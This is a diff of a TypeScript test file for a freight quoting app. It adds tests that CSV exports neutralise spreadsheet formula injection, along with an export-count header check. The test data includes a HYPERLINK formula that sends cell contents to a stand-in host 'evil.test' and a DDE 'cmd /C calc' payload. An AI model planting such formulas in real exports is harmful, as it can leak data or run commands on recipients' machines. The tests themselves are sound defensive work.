@@ -6,7 +6,7 @@ import { promisify } from 'node:util';
 import { addDays, easternDate, formatCalendarDate, OFFER_MESSAGES, QUOTE_TERMS } from '@freight/domain';
 import type { Response } from 'supertest';
 import { type Agent, useTestApp } from '../../test/harness';
-import { appendChange, idKey, exportRecords, MailMessage, Quote } from '../../store/testing';
+import { MailMessage, Quote, quoteListFields } from '../../store/testing';
 
 const t = useTestApp();
 const run = promisify(execFile);
@@ -30,12 +30,11 @@ async function pricedQuote(agent: Agent, price = '1250', extra: Record<string, u
   return { id: id as number, quote: res.body };
 }
 
-const stored = async (id: number) => (await Quote.findById(idKey(id)).lean())!;
-/** Changes a stored quote as a person with a database shell would, through the model (its list fields follow). */
+const stored = async (id: number) => (await Quote.findOne({ id: id }).lean())!;
+/** Changes a stored quote as a person with a database shell would, keeping its list fields with it. */
 async function changeStored(id: number, fields: Record<string, unknown>): Promise<void> {
-  const quote = (await Quote.findById(idKey(id)))!;
-  quote.set(fields);
-  await quote.save();
+  const quote = { ...(await stored(id)), ...fields };
+  await Quote.updateOne({ id }, { $set: { ...fields, ...quoteListFields(quote) } });
 }
 const kindsFor = async (id: number) => (await MailMessage.find({ 'source.id': id }).lean()).map((m) => m.kind).sort();
 
@@ -227,8 +226,6 @@ describe('staff see the decisions', () => {
     await agent.post(`/api/customer-quotes/${accepted.id}/accept`).send({ signature: 'Pat Doe', accept: true }).expect(200);
     await agent.post(`/api/customer-quotes/${declined.id}/decline`).send({}).expect(200);
     await changeStored(expired.id, { validUntil: addDays(easternDate(), -2) });
-    // A direct write: the list reads it through the change log on its next request.
-    await appendChange('quotes', expired.id);
 
     const ids = async (offer: string) =>
       (await admin.get('/api/quotes').query({ offer, search: user.email, limit: 50 }).expect(200)).body.map((q: { id: number }) => q.id);
@@ -325,6 +322,8 @@ describe('CSV exports', () => {
     const [header, ...rows] = parseCsv(text);
     expect(header.slice(0, 4)).toEqual(['Quote #', 'Received', 'Status', 'Customer decision']);
     expect(rows).toHaveLength(1);
+    // How many rows follow, said before the first one (the page shows the export's progress).
+    expect(res.headers['x-total-count']).toBe('1');
     expect(rows[0].slice(0, 7)).toEqual([String(id), expect.any(String), 'Approved', 'Awaiting customer', 'Anna "AJ"', 'Jones, Jr.', 'Quote & Comma, Inc.']);
 
     const all = parseCsv((await admin.get('/api/admin/quotes/export').query({ search: 'Quote & Comma' }).buffer(true).parse(binary).expect(200)).body.toString('utf8'));
@@ -336,6 +335,7 @@ describe('CSV exports', () => {
     await t.createUser({ firstName: '=HYPERLINK("http://evil")', lastName: 'Export', companyName: 'Export Check Co' });
     const res = await admin.get('/api/admin/users/export').query({ search: 'Export Check' }).buffer(true).parse(binary).expect(200);
     const rows = parseCsv((res.body as Buffer).toString('utf8').replace(/^\uFEFF/, ''));
+    expect(res.headers['x-total-count']).toBe('1');
     expect(rows[0]).toEqual(['User #', 'Username', 'First name', 'Last name', 'Email', 'Phone', 'Company', 'Account type', 'Active', 'Admin', 'Created']);
     expect(rows).toHaveLength(2);
     expect(rows[1][2]).toBe(`'=HYPERLINK("http://evil")`);
@@ -343,24 +343,36 @@ describe('CSV exports', () => {
     expect((res.body as Buffer).toString()).not.toMatch(/\$argon2|\$2[aby]\$|scrypt/);
   });
 
-  it('reads a large export in one pass and a small one by id, with the same rows in the same order (oldest first)', async () => {
-    const ids = (await Quote.find({}, { id: 1 }).lean()).map((q) => q.id).sort((a, b) => b - a);
-    const byLookup: number[] = [];
-    for await (const q of exportRecords(Quote, ids, { lookupLimit: Infinity })) byLookup.push(q.id);
-    const byScan: number[] = [];
-    for await (const q of exportRecords(Quote, ids.slice(1), { lookupLimit: 0 })) byScan.push(q.id);
-    expect(byLookup).toEqual([...ids].reverse());
-    expect(byScan).toEqual([...ids].reverse().filter((id) => id !== ids[0]));
+  const FORMULAS = {
+    plusDigit: '+1+HYPERLINK("http://evil.test?"&A1,"x")',
+    minusDigit: "-1+1+cmd|' /C calc'!A0",
+    equals: '=1+1',
+    at: '@SUM(A1:A2)',
+    minus: '-cmd',
+  };
+
+  it('keeps every user cell a spreadsheet would run as a formula as text, + or - before a digit included', async () => {
+    for (const [key, formula] of Object.entries(FORMULAS)) {
+      await t.createUser({ firstName: formula, lastName: `Formula ${key}`, companyName: formula, phone: formula });
+    }
+    const res = await admin.get('/api/admin/users/export').query({ search: 'Formula' }).buffer(true).parse(binary).expect(200);
+    const [header, ...rows] = parseCsv((res.body as Buffer).toString('utf8').replace(/^\uFEFF/, ''));
+    expect(rows).toHaveLength(Object.keys(FORMULAS).length);
+    const cell = (row: string[], name: string) => row[header.indexOf(name)];
+    for (const row of rows) {
+      const formula = FORMULAS[cell(row, 'Last name').replace('Formula ', '') as keyof typeof FORMULAS];
+      expect([cell(row, 'First name'), cell(row, 'Company'), cell(row, 'Phone')]).toEqual([`'${formula}`, `'${formula}`, `'${formula}`]);
+      expect(cell(row, 'User #')).toMatch(/^[1-9][0-9]*$/);
+    }
   });
 
-  it('keeps the order when an old record is stored after newer ones (as PostgreSQL stores an updated row)', async () => {
-    const ids = (await Quote.find({}, { id: 1 }).lean()).map((q) => q.id).sort((a, b) => b - a);
-    const oldest = await Quote.collection.findOne({ id: ids[ids.length - 1] });
-    await Quote.collection.deleteOne({ _id: oldest!._id });
-    await Quote.collection.insertOne(oldest!);
-    const byScan: number[] = [];
-    for await (const q of exportRecords(Quote, ids, { lookupLimit: 0 })) byScan.push(q.id);
-    expect(byScan).toEqual([...ids].reverse());
+  it('keeps formulas in quote cells as text, whoever typed them', async () => {
+    const { agent } = await customer({ firstName: FORMULAS.plusDigit, lastName: 'Formula quote', companyName: FORMULAS.minusDigit });
+    await agent.post('/api/customer-quotes').send({ serviceNeeded: 'Other', projectDetails: FORMULAS.at, phone: '+1 555 0100' }).expect(201);
+    const res = await admin.get('/api/admin/quotes/export').query({ search: 'Formula quote' }).buffer(true).parse(binary).expect(200);
+    const [header, row] = parseCsv((res.body as Buffer).toString('utf8').replace(/^\uFEFF/, ''));
+    const cell = (name: string) => row[header.indexOf(name)];
+    expect([cell('First name'), cell('Company'), cell('Project details'), cell('Phone')]).toEqual([`'${FORMULAS.plusDigit}`, `'${FORMULAS.minusDigit}`, `'${FORMULAS.at}`, "'+1 555 0100"]);
   });
 
   it('is for admins only', async () => {
